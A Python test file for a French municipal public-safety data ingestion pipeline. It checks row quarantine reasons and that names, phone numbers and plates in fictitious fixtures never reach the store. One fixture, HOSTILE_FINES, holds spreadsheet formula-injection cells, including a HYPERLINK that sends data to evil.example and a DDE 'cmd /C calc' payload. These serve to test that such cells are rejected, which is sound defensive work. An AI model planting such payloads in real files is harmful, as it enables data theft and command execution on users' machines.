"""Each connector on small hand-written exports: what is admitted, what is quarantined and why.

Every case checks rows read = admitted + quarantined, the quarantine reasons
row by row, and that no identifier or free text reaches the store.
"""

from __future__ import annotations

from pathlib import Path

import duckdb
import pyarrow.compute as pc
import pytest

from observatoire.city.profile import CityProfile
from observatoire.errors import InputError
from observatoire.gate.admit import Gate
from observatoire.ingest.pipeline import ingest
from observatoire.city.west_yorkshire import west_yorkshire_profile
from observatoire.store.parquet import ParquetStore
from tests.conftest import NOW, write

MC_HEADER = ("numero;date_heure;date_saisie;adresse;longitude;latitude;categorie;origine;recit;agent;"
             "personnes_impliquees\n")
MC = MC_HEADER + (
    "MC-1;01/03/2025 14:05;01/03/2025 15:00;12 rue de Rome, 13006 Marseille;5,3790;43,2920;Violences;appel_usager;"
    "Différend entre M. Karim BENALI (tél. 06 12 34 56 78) et sa voisine;PM0421;BENALI Karim|DUPONT Marie\n"
    "MC-2;31/13/2025 14:05;;;5,37;43,29;Vol;initiative;x;PM0001;\n"
    "MC-3;02/03/2025 10:00;;3 bd National, 13003 Marseille;;;Cambriolage;requisition;y;PM0002;\n"
    "MC-4;02/03/2025 10:00;;;4,0;43,0;Vol;initiative;y;PM0002;\n"
    "MC-5;02/03/2025 10:00;;;5,37;43,29;Suspect;initiative;y;PM0002;\n"
    "MC-1;01/03/2025 14:05;;;5,37;43,29;Vol;initiative;y;PM0002;\n"
    "MC-7;02/03/2025 10:00;only;three\n"
    "MC-8;02/03/2027 10:00;;;5,37;43,29;Vol;initiative;y;PM0002;\n"
    "MC-9;02/03/2025 10:00;01/03/2025 10:00;;5,37;43,29;Vol;initiative;y;PM0002;\n"
    "MC-10;02/03/2025 10:00;;;5,37;43,29;vol;patrouille;y;PM0002;\n"
    "MC-11;26/10/2025 02:30;;;5,37;43,29;dégradations;videoprotection;y;PM0002;\n"
)
FINES = (
    "numero_avis;date_infraction;heure_infraction;natinf;libelle_infraction;lieu;longitude;latitude;"
    "immatriculation;montant_eur;matricule_agent\n"
    "A1;03/03/2025;09:15;11302;Stationnement gênant;4 rue Paradis 13001 Marseille;5,3780;43,2950;AB-123-CD;35,00;PM0007\n"
    "A2;03/03/2025;;11208;Feu rouge;;5,3780;43,2950;1234 AB 13;135,00;PM0007\n"
    "A3;03/03/2025;09:15;99999;Inconnu;;5,3780;43,2950;AB-123-CD;35,00;PM0007\n"
    "A4;03/03/2025;09:15;11302;x;;5,3780;43,2950;AB-123-CD;trente;PM0007\n"
    "A5;03/03/2025;09:15;11302;x;1 rue X 13004 Marseille;;;AB-123-CD;35;PM0007\n"
)
REPORTS = (
    '{"id": "R1", "type": "intervention", "horodatage": "2025-03-01T14:05:00+01:00", "lon": 5.379, "lat": 43.292,'
    ' "nature": "Tapage, nuisances", "note": "Mme Durand 0612345678", "agent": "PM0003"}\n'
    '{"id": "R2", "type": "rapport_operateur", "horodatage": "2025-03-01T14:05:00Z", "lon": null, "lat": null,'
    ' "nature": "Signalement vidéo", "note": "", "agent": "PM0003"}\n'
    '{"id": "R3", "type": "garde_a_vue", "horodatage": "2025-03-01T14:05:00Z", "nature": "Vol"}\n'
    '{"id": "R4", "type": "intervention", "horodatage": "2025-03-01 14:05", "nature": "Vol"}\n'
    'this is not json\n'
)
CAMERAS = (
    "camera_id;longitude;latitude;proprietaire;orientation_deg;angle_champ_deg;portee_m;mise_en_service\n"
    "CAM-1;5,3790;43,2920;ville;90;60;50;01/01/2020\n"
    "CAM-2;5,3800;43,2950;rtm;;;40;\n"
    "CAM-3;2,35;48,85;ville;0;60;50;01/01/2020\n"
    "CAM-4;5,3800;43,2950;voisin;0;60;50;01/01/2020\n"
)
CCTV = (
    '{"event_id": "V1", "camera_id": "CAM-1", "detected_at": "2025-03-01T14:05:00Z", "type": "arme", "confidence": 0.9}\n'
    '{"event_id": "V2", "camera_id": "CAM-2", "detected_at": "2025-03-01T14:06:00Z", "type": "depart_de_feu", "confidence": 0.7}\n'
    '{"event_id": "V3", "camera_id": "CAM-1", "detected_at": "2025-03-01T14:07:00Z", "type": "visage_reconnu", "confidence": 0.9}\n'
    '{"event_id": "V4", "camera_id": "CAM-9", "detected_at": "2025-03-01T14:08:00Z", "type": "arme", "confidence": 0.9}\n'
    '{"event_id": "V5", "camera_id": "CAM-1", "detected_at": "2025-03-01T14:09:00Z", "type": "arme", "confidence": 1.7}\n'
    '{"event_id": "V6", "camera_id": "CAM-1", "detected_at": "2025-03-01T14:10:00Z", "type": "arme", "confidence": 0.8,'
    ' "face_embedding": [0.1, 0.2], "image": "base64..."}\n'
)
HOSPITAL = (
    "date_agression;heure_agression;code_insee_lieu;categorie_arme;tranche_age;sexe;date_admission;heure_admission\n"
    "01/03/2025;23:30;13201;tranchant;18-24;M;02/03/2025;00:10\n"
    "01/03/2025;;13215;aucune;35-49;F;01/03/2025;18:00\n"
    "01/03/2025;23:30;75056;aucune;35-49;F;02/03/2025;00:10\n"
    "01/03/2025;23:30;13201;bazooka;35-49;F;02/03/2025;00:10\n"
    "01/03/2025;23:30;13201;aucune;12-15;F;02/03/2025;00:10\n"
)
SOCIAL = (
    '{"id": "P1", "created_at": "2025-03-01T20:00:00Z", "text": "Ça chauffe à Noailles, appelez Karim au 06 11 22 33 44",'
    ' "lang": "fr", "author": {"id": "4471987123", "handle": "@karim13"}, "geo": {"lon": 5.381, "lat": 43.296}}\n'
    '{"id": "P2", "created_at": "2025-03-01T20:01:00+01:00", "text": "Match ce soir au Vélodrome", "lang": "fr",'
    ' "author": {"id": "4471988123", "handle": "@om_fan"}, "geo": null}\n'
    '{"id": "P3", "created_at": "2025-03-01T20:02:00Z", "text": "Aix", "lang": "fr",'
    ' "author": {"id": "4471989123", "handle": "@aix"}, "geo": {"lon": 5.447, "lat": 43.529}}\n'
)
PLANNED = (
    "id;nom;type;lieu;longitude;latitude;debut;fin;affluence_attendue\n"
    "E1;OM - PSG;match;Orange Vélodrome;5,3959;43,2699;01/03/2025 21:00;01/03/2025 23:00;65000\n"
    "E2;Concert;concert;Le Dôme;5,4000;43,3040;01/03/2025 21:00;01/03/2025 20:00;8000\n"
    "E3;Rave;rave;Plage;5,37;43,26;01/03/2025 21:00;01/03/2025 23:00;100\n"
)
PATROLS = (
    "date;creneau;code_insee;effectif;heures_patrouille\n"
    "01/03/2025;matin;13201;6;40\n"
    "01/03/2025;nuit;13203;4;28,5\n"
    "01/03/2025;sieste;13203;4;28\n"
    "01/03/2025;matin;13299;4;28\n"
)
# Strings that must never reach the store: identifiers and free text of the exports above.
SECRETS = ("BENALI", "Karim", "06 12 34 56 78", "PM0421", "PM0007", "AB-123-CD", "1234 AB 13", "rue de Rome",
           "0612345678", "Durand", "@karim13", "4471987123", "06 11 22 33 44", "base64", "rue Paradis",
           "DUPONT Marie")

CASES = {
    # file name, content, expected admitted, expected {row: reason}
    "mains_courantes": ("mains_courantes_t.csv", MC, 3, {
        2: "bad_timestamp", 4: "outside_city", 5: "unknown_category", 6: "duplicate_in_file",
        7: "malformed_row", 8: "future_date", 9: "reported_before_occurred", 10: "unknown_origin"}),
    "verbalisations": ("verbalisations_t.csv", FINES, 3, {3: "unknown_natinf", 4: "invalid_value"}),
    "municipal_reports": ("municipal_reports_t.jsonl", REPORTS, 2, {3: "unknown_type", 4: "bad_timestamp",
                                                                   5: "malformed_row"}),
    "hospital": ("hospital_t.csv", HOSPITAL, 2, {3: "unknown_zone", 4: "unknown_weapon", 5: "unknown_age_band"}),
    "social_media": ("social_media_t.jsonl", SOCIAL, 2, {3: "outside_city"}),
    "planned_events": ("planned_events_t.csv", PLANNED, 1, {2: "ends_before_start", 3: "unknown_event_type"}),
    "patrols": ("patrols_t.csv", PATROLS, 2, {3: "unknown_shift", 4: "unknown_zone"}),
    "cctv_cameras": ("cctv_cameras_t.csv", CAMERAS, 2, {3: "outside_city", 4: "unknown_owner"}),
}


def _by_ref(events: list[dict], gate: Gate) -> dict[str, dict]:
    """Logbook events by their entry number ``MC-<n>``: the store holds only its keyed digest."""
    numbers = {gate.keyring.record_digests([f"MC-{i}"])[0]: f"MC-{i}" for i in range(1, 100)}
    return {numbers[r["attributes"]["mains_courantes"]["logbook_ref"]]: r for r in events}


def _ingest(tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate,
            *files: tuple[str, str]):
    paths = [write(tmp_path / "in", name, text) for name, text in files]
    return ingest(paths, store=store, city=city, sources=sources, gate=gate, now=NOW, retention_days={"cctv_events": 30})


@pytest.mark.parametrize("source", sorted(CASES))
def test_when_a_source_file_has_good_and_bad_rows_then_each_bad_row_is_quarantined_with_its_reason(
        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate, source: str) -> None:
    name, text, admitted, reasons = CASES[source]
    [report] = _ingest(tmp_path, store, city, sources, gate, (name, text))
    assert report.source == source and report.committed
    assert report.rows_read == report.admitted + report.quarantined
    assert report.admitted == admitted
    q = store.quarantine().to_pyarrow()
    assert dict(zip(q["source_row"].to_pylist(), q["reason"].to_pylist())) == reasons
    assert set(q["source"].to_pylist()) <= {source}


def test_cctv_events_keep_only_decree_types_from_registered_cameras_and_never_images(
        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate) -> None:
    reports = _ingest(tmp_path, store, city, sources, gate, ("cctv_events_t.jsonl", CCTV), ("cctv_cameras_t.csv", CAMERAS))
    assert [r.source for r in reports] == ["cctv_cameras", "cctv_events"]  # the registry goes first
    events = store.events().to_pyarrow()
    assert sorted(events["category"].to_pylist()) == ["cctv_fire_start", "cctv_weapon"]
    q = store.quarantine().to_pyarrow().filter(pc.equal(store.quarantine().to_pyarrow()["source"], "cctv_events"))
    assert dict(zip(q["source_row"].to_pylist(), q["reason"].to_pylist())) == {
        3: "type_not_in_decree", 4: "unknown_camera", 5: "bad_confidence", 6: "refused_field"}
    assert reports[1].dropped_fields == {}  # a face or an image refuses the row: nothing to drop
    assert set(events["discovery"].to_pylist()) == {"automated"}
    # The place is the camera's, with its range as the precision.
    row = events.filter(pc.equal(events["category"], "cctv_fire_start"))
    assert row["lon"][0].as_py() == pytest.approx(5.38) and row["location_precision_m"][0].as_py() == 40
    assert store.reference("cctv_cameras").count().to_pyarrow().as_py() == 2


def test_when_cctv_events_come_without_a_camera_registry_then_ingest_refuses_clearly(
        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate) -> None:
    with pytest.raises(Exception, match="needs cctv_cameras"):
        _ingest(tmp_path, store, city, sources, gate, ("cctv_events_t.jsonl", CCTV))


def test_no_identifier_or_free_text_reaches_the_store(tmp_path: Path, store: ParquetStore, city: CityProfile,
                                                      sources: dict, gate: Gate) -> None:
    files = [(n, t) for n, t, _, _ in CASES.values()] + [("cctv_events_t.jsonl", CCTV)]
    _ingest(tmp_path, store, city, sources, gate, *files)
    stored = b"".join(p.read_bytes() for p in store.root.rglob("*") if p.is_file())
    # Parquet pages are compressed: check the decoded values too.
    text = " ".join(str(v) for tbl in (store.events(), store.quarantine()) for v in tbl.to_pyarrow().to_pylist())
    for secret in SECRETS:
        assert secret.encode() not in stored, secret
        assert secret not in text, secret


def test_french_conventions_are_read(tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate) -> None:
    """Windows-1252 with decimal commas; a BOM; DST: an ambiguous local time is the earlier instant."""
    path = write(tmp_path / "in", "mains_courantes_cp1252.csv", MC, encoding="cp1252")
    ingest([path], store=store, city=city, sources=sources, gate=gate, now=NOW)
    events = store.events().to_pyarrow()
    by_ref = _by_ref(events.to_pylist(), gate)
    assert by_ref["MC-11"]["occurred_at"].isoformat() == "2025-10-26T00:30:00+00:00"  # 02:30 CEST, not CET
    assert by_ref["MC-11"]["category"] == "criminal_damage"  # "dégradations": case and accents do not matter
    assert by_ref["MC-1"]["lon"] == pytest.approx(5.379) and by_ref["MC-1"]["zone_id"] is not None
    assert by_ref["MC-1"]["attributes"]["mains_courantes"]["persons_involved"] == 2
    assert by_ref["MC-3"]["lon"] is None and by_ref["MC-3"]["zone_id"] == "13203"  # from the postcode
    assert by_ref["MC-1"]["discovery"] == "independent" and by_ref["MC-11"]["discovery"] == "directed"


def test_fines_and_hospital_precision_and_zone(tmp_path: Path, store: ParquetStore, city: CityProfile,
                                               sources: dict, gate: Gate) -> None:
    _ingest(tmp_path, store, city, sources, gate, ("verbalisations_t.csv", FINES), ("hospital_t.csv", HOSPITAL))
    rows = {(r["source"], r["source_row"]): r for r in store.events().to_pyarrow().to_pylist()}
    assert rows[("verbalisations", 2)]["time_precision"] == "day"
    assert rows[("verbalisations", 1)]["attributes"]["verbalisations"] == {"natinf": 11302, "amount_eur": 35.0}
    assert rows[("verbalisations", 5)]["zone_id"] == "13204" and rows[("verbalisations", 5)]["lon"] is None
    h = rows[("hospital", 2)]
    assert h["zone_id"] == "13215" and h["lon"] is None and h["h3_r9"] is None and h["time_precision"] == "day"
    assert rows[("hospital", 1)]["attributes"]["hospital"] == {"weapon": "sharp", "age_band": "18-24", "sex": "M"}


def test_stored_counts_equal_a_direct_duckdb_query_of_the_parquet_files(
        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate) -> None:
    _ingest(tmp_path, store, city, sources, gate, *[(n, t) for n, t, _, _ in CASES.values()])
    files = [str(p) for p in store.event_files()]
    direct = duckdb.sql(f"select source, count(*) n from read_parquet({files}) group by 1 order by 1").fetchall()
    t = store.events()
    via_ibis = t.group_by("source").agg(n=t.count()).order_by("source").to_pyarrow().to_pylist()
    assert [(r["source"], r["n"]) for r in via_ibis] == direct


SAMPLES = Path(__file__).resolve().parents[1] / "docs" / "samples"


def test_every_documented_sample_file_is_admitted_whole(tmp_path: Path, store: ParquetStore, city: CityProfile,
                                                        sources: dict, gate: Gate) -> None:
    files = sorted(SAMPLES.iterdir())
    assert {resolve_name(p, sources) for p in files} == set(sources)  # one sample per registered source
    police = [p for p in files if resolve_name(p, sources) == "police_uk"]
    reports = ingest([p for p in files if p not in police], store=store, city=city, sources=sources, gate=gate,
                     now=NOW)
    wy = west_yorkshire_profile()  # police.uk records refer to West Yorkshire LSOAs, not to the city's zones
    reports += ingest(police, store=ParquetStore(tmp_path / "wy", zone_ids=wy.zone_ids), city=wy, sources=sources,
                      gate=gate, now=NOW)
    for r in reports:
        assert r.rows_read > 0 and r.quarantined == 0 and r.admitted == r.rows_read, (r.source, r.reasons)


def resolve_name(path: Path, sources: dict) -> str:
    from observatoire.sources.registry import resolve

    return resolve(path, sources).name


def test_hospital_counts_suppress_small_and_hidden_counts(tmp_path: Path, store: ParquetStore, city: CityProfile,
                                                          sources: dict, gate: Gate) -> None:
    ingest([SAMPLES / "hospital_counts_sample.csv"], store=store, city=city, sources=sources, gate=gate, now=NOW)
    rows = store.reference("hospital_counts").to_pyarrow().to_pylist()
    assert [(r["count"], r["suppressed"]) for r in rows] == [
        (14, False), (None, True), (None, True), (23, False), (None, True), (11, False)]


HOSTILE_FINES = (
    "numero_avis;date_infraction;heure_infraction;natinf;libelle_infraction;lieu;longitude;latitude;"
    "immatriculation;montant_eur;matricule_agent\n"
    'A1;03/03/2025;09:15;11302;"=HYPERLINK(""http://evil.example/?""&A1;""clic"")";;5,3780;43,2950;AB-123-CD;35,00;PM1\n'
    "A2;03/03/2025;09:15;11302;@SUM(1+1)*cmd|' /C calc'!A0;;5,3780;43,2950;AB-123-CD;35,00;PM1\n"
    f"A3;03/03/2025;09:15;11302;{'x' * 50_000};;5,3780;43,2950;AB-123-CD;35,00;PM1\n"
    "A4;03/03/2025;09:15;11302;Stationnement;;-5,3780;43,2950;AB-123-CD;35,00;PM1\n"
    "A5;03/03/2025;09:15;11302;ok;;5,3780;43,2950;AB-123-CD;35,00;PM1\n"
    "A6;03/03/2025;09:1"
)


def test_hostile_cells_are_quarantined_and_a_truncated_last_line_too(
        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate) -> None:
    [r] = _ingest(tmp_path, store, city, sources, gate, ("verbalisations_h.csv", HOSTILE_FINES))
    q = {row["source_row"]: row["reason"] for row in store.quarantine().to_pyarrow().to_pylist()}
    assert q == {1: "formula_cell", 2: "formula_cell", 3: "oversized_field", 4: "outside_city", 6: "malformed_row"}
    assert (r.rows_read, r.admitted) == (6, 1)
    blob = b"".join(p.read_bytes() for p in store.root.rglob("*.parquet"))
    assert b"HYPERLINK" not in blob and b"evil.example" not in blob


def test_when_a_file_is_in_an_unknown_binary_encoding_then_it_is_refused_clearly(
        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate: Gate) -> None:
    """UTF-16 with its byte-order mark (Excel's "Unicode text") is read; UTF-32 or any other binary is not."""
    for encoding in ("utf-32", "utf-32-be"):
        path = tmp_path / f"mains_courantes_{encoding}.csv"
        path.write_bytes(MC.encode(encoding))
        with pytest.raises(Exception, match="binary content|missing column"):
            ingest([path], store=store, city=city, sources=sources, gate=gate, now=NOW)
    assert not store.manifest_path.exists()
    path = tmp_path / "mains_courantes_utf16.csv"
    path.write_bytes(MC.encode("utf-16"))
    [report] = ingest([path], store=store, city=city, sources=sources, gate=gate, now=NOW)
    assert report.committed and report.admitted == 3


def test_a_logbook_in_json_lines_with_a_bom_gives_the_same_events_as_its_csv(
        tmp_path: Path, city: CityProfile, sources: dict, gate: Gate) -> None:
    import json

    csv_store = ParquetStore(tmp_path / "a", zone_ids=city.zone_ids)
    json_store = ParquetStore(tmp_path / "b", zone_ids=city.zone_ids)
    ingest([write(tmp_path / "csv", "mains_courantes_x.csv", MC, bom=True)], store=csv_store, city=city,
           sources=sources, gate=gate, now=NOW)
    lines = []
    for line in MC.splitlines()[1:]:
        cells = line.split(";")
        if len(cells) != 11:
            lines.append("{not json")
            continue
        obj = dict(zip(MC_HEADER.strip().split(";"), [c or None for c in cells]))
        if obj["personnes_impliquees"]:
            obj["personnes_impliquees"] = obj["personnes_impliquees"].split("|")
        lines.append(json.dumps(obj, ensure_ascii=False))
    ingest([write(tmp_path / "json", "mains_courantes_x.jsonl", "\n".join(lines) + "\n", bom=True)],
           store=json_store, city=city, sources=sources, gate=gate, now=NOW)
    cols = ["event_id", "category", "occurred_at", "reported_at", "lon", "lat", "zone_id", "text", "pseudonyms"]
    a = csv_store.events().to_pyarrow().select(cols).sort_by("event_id")
    b = json_store.events().to_pyarrow().select(cols).sort_by("event_id")
    assert a.num_rows == 3 and a.equals(b)
    qa = csv_store.quarantine().to_pyarrow().sort_by("source_row")
    qb = json_store.quarantine().to_pyarrow().sort_by("source_row")
    assert qa["reason"].to_pylist() == qb["reason"].to_pylist()


def test_a_logbook_in_json_lines_may_list_persons_as_objects_or_names(
        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate) -> None:
    base = ('{"numero": "%s", "date_heure": "01/03/2025 14:05", "adresse": "12 rue de Rome, 13006 Marseille", '
            '"categorie": "Violences", "origine": "appel_usager", "recit": "Rixe", "agent": "PM1", '
            '"personnes_impliquees": %s}\n')
    lines = (base % ("MC-1", '[{"nom": "DUPONT", "prenom": "Jean"}, {"nom": "MARTIN", "age": 31}]')
             + base % ("MC-2", '["DUPONT Jean"]') + base % ("MC-3", '"[pas du JSON"'))
    [report] = _ingest(tmp_path, store, city, sources, gate, ("mains_courantes_j.jsonl", lines))
    assert report.committed and report.admitted == 3 and report.quarantined == 0
    rows = _by_ref(store.events().to_pyarrow().to_pylist(), gate)
    tokens = {k: [p["token"] for p in r["pseudonyms"] if p["role"] == "person"] for k, r in rows.items()}
    assert len(tokens["MC-1"]) == 2 and tokens["MC-2"] == tokens["MC-1"][:1]   # "DUPONT Jean" either way
    assert len(tokens["MC-3"]) == 1
    stored = str(list(rows.values()))
    assert "DUPONT" not in stored and "MARTIN" not in stored


def test_a_signed_count_is_read_not_a_crash() -> None:
    import pyarrow as pa

    from observatoire.sources.formats import parse_int

    parsed, bad = parse_int(pa.array(["+2", "-3", " 12 ", "++2", "0612345678", "", None]))
    assert parsed.to_pylist() == [2, -3, 12, None, None, None, None]
    assert bad.tolist() == [False, False, False, True, True, False, False]


def test_a_reference_table_is_not_replaced_by_an_empty_or_partial_one_without_the_flag(
        tmp_path: Path, store: ParquetStore, city: CityProfile, sources: dict, gate) -> None:
    good = "date;creneau;code_insee;effectif;heures_patrouille\n01/03/2025;matin;13201;6;40\n01/03/2025;nuit;13203;4;28\n"
    _ingest(tmp_path, store, city, sources, gate, ("patrols_a.csv", good))
    manifest = store.manifest_path.read_bytes()
    all_bad = "date;creneau;code_insee;effectif;heures_patrouille\n01/03/2025;sieste;13203;4;28\n"
    for name, text in (("patrols_b.csv", all_bad), ("patrols_c.csv", PATROLS)):
        with pytest.raises(InputError, match="would replace the stored patrols table .*--replace-reference"):
            _ingest(tmp_path, store, city, sources, gate, (name, text))
        assert store.manifest_path.read_bytes() == manifest             # nothing stored, nothing lost
    assert store.reference("patrols").to_pyarrow().num_rows == 2
    paths = [write(tmp_path / "in", "patrols_c.csv", PATROLS)]
    ingest(paths, store=store, city=city, sources=sources, gate=gate, now=NOW, replace_reference=True)
    assert store.reference("patrols").to_pyarrow().num_rows == 2          # the two good rows of the new plan
